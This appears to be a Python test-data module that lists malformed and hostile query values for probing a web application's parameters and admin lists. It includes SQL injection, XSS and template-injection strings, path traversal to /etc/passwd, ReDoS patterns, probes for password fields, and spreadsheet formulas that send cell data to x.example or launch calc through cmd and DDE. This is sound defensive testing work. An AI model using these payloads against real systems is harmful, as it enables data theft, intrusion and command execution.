"""Values that no page offers and anybody can type into an address, by what is odd about them.

They stand as they are sent: percent-encoded bytes, some of which are no text at all.
"""

from urllib.parse import quote


def sent(*values: str) -> list[str]:
    return [quote(value, safe="") for value in values]


VALUES = {
    "empty": ["", "%20", "+", "%09", "%0A", "%0D%0A", "%C2%A0", "%E3%80%80", "%E2%80%8B",
              "%20%20%20",
              "%EF%BB%BF"],
    "wrong type": sent(
        "abc", "１２", "٣٤", "²", "½", "Ⅻ", "一", "true", "True", "false", "on", "None", "null",
        "[]",
        "[1,2]", "{}", '{"a":1}', "()", "0x10", "0b1", "0o7", "1_000", "1,000", "1 000", "1-2",
        "+1",
        "--1",
    ),
    "huge integers": sent(
        "2147483647", "2147483648", "-2147483649", "4294967296", "9223372036854775807",
        "9223372036854775808", "-9223372036854775809", "18446744073709551616", "9" * 20, "9" * 40,
        "9" * 100, "9" * 309, "9" * 1000, "9" * 4300, "9" * 4301, "9" * 5000, "-" + "9" * 40,
    ),
    "floats": sent("1.5", "1e5", "1e309", "-1e309", "NaN", "sNaN", "inf", "-Infinity",
                   "1E+999999999"),
    "page numbers": sent("0", "-1", "00", "1.0", "last", "999999999", "1e3", "１", "1;2"),
    "NUL": ["%00", "a%00", "%00a", "1%00", "%00%00%00", "2014%00-01"],
    "control characters": ["%01", "%07", "%08", "%1B%5B2J", "%7F", "%C2%85", "a%0Ab", "a%0D%0Ab:c"],
    "Unicode": sent(
        "\u202e2014", "\u2066x\u2069", "a\u200bb", "a\u200db", "e\u0301", "e" + "\u0301" * 50, "𠮷",
        "😀" * 30, "\ufffd", "\ufffe", "\uffff", "ﬁ", "İ", "ß", "ſ", "Ω", "ñ", "\u2028", "\u2029",
        "\u00ad", "ﷺ", "\U0010ffff", "\U000e0041",
    ),
    "no UTF-8": ["%ff", "%fe%ff", "%c3%28", "%ed%a0%80", "%c0%80", "%f8%a1%a1%a1", "%80"],
    "SQL": sent(
        "'", "''", '"', "\\", "1' OR '1'='1", "1 OR 1=1", "1; DROP TABLE x", "1--", "1/*",
        "') OR ('",
        "1 UNION SELECT password FROM access_user", "%", "_", "%%_", "pg_sleep(9)",
        "1 AND sleep(9)", "$1",
    ),
    "markup and templates": sent(
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</title><svg onload=x>",
        "javascript:alert(1)", "{{ 7*7 }}", "{% debug %}", "${7*7}", "#{7*7}", "<!--", "]]>",
        "&lt;script&gt;",
    ),
    "paths and addresses": sent(
        "../../etc/passwd", "..\\..\\win.ini", "/etc/passwd", "file:///etc/passwd",
        "http://evil.example/", "//evil.example", "C:\\x", "zone:../x",
    ),
    "ordering": sent(
        "password", "user__password", "-user__password", "park__home_zone__version", "pk", "-pk",
        "id",
        "?", "??", "--name", "name,pk", "name pk", "name;drop", "name desc", "name__lower",
        "history__history_user__password", "memberships__user__password", "created_by__password",
        "added_by__email", "RANDOM()", "1", "0", "name--", "NAME", ".name",
    ),
    "lookups and patterns": sent(
        "(a+)+$" * 20, "^(([a-z])+.)+$", ".*", "[", "(", "*", "park__in", "name__regex",
        "name__range",
        "(?i)" * 50,
    ),
    "dates": sent(
        "2014", "0", "0000", "-2014", "10000", "99999", "2014-13-01", "2014-02-30", "2014年",
        "二〇一四", "2014-01-01T00:00:00+99:99", "1e4",
    ),
    "long": sent("x" * 1_000, "x" * 20_000, "企" * 5_000, "a " * 5_000),
}  # fmt: skip
PROMISED = {
    "empty": 11, "wrong type": 27, "huge integers": 17, "floats": 9, "page numbers": 9, "NUL": 6,
    "control characters": 8, "Unicode": 23, "no UTF-8": 7, "SQL": 17, "markup and templates": 11,
    "paths and addresses": 8, "ordering": 25, "lookups and patterns": 10, "dates": 12, "long": 4,
}  # fmt: skip

# Probes of the lists of the admin.
OF_THE_ADMIN = [
    "password__startswith=a", "user__password__startswith=a", "memberships__user__password=x",
    "_to_field=password", "_to_field=pk&_popup=1", "_popup=%00", "year__range=1",
    "year__range=1,2,3",
    "year=abc", "year=99999999999999999999999999", "id__in=a,b",
    "id__in=" + ",".join(map(str, range(3000))), "park__id__exact=abc",
    "park__home_zone__key__regex=((a%2B)%2B)%2B$", "pk__isnull=perhaps", "o=abc.99",
    "p=99999999999999999999", "all=%00", "e=1&e=2",
]  # fmt: skip

# What is odd about the query as a whole.
WHOLE = [
    "", "&&&&", "=", "=1", "q", "q=&q=&q=", "a[]=1&a[b]=2", "?q=1", "q=1?sort=2", ";q=1;sort=2",
    "q==1", "&".join(["q=a"] * 900), "&".join(f"unknown{n}=1" for n in range(900)),
    "&".join(["sort=", "page=", "size=", "format=", "behind=", "place=", "year=", "park="]), "%",
]  # fmt: skip

# Texts that a spreadsheet would run, fetch something for, or send something with.
FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=IFERROR(1,CALL("Kernel32","WinExec","JCJ","calc",0))',
    "=1+1\r\n=2+2",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '@IMPORTRANGE("key";"A1")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]
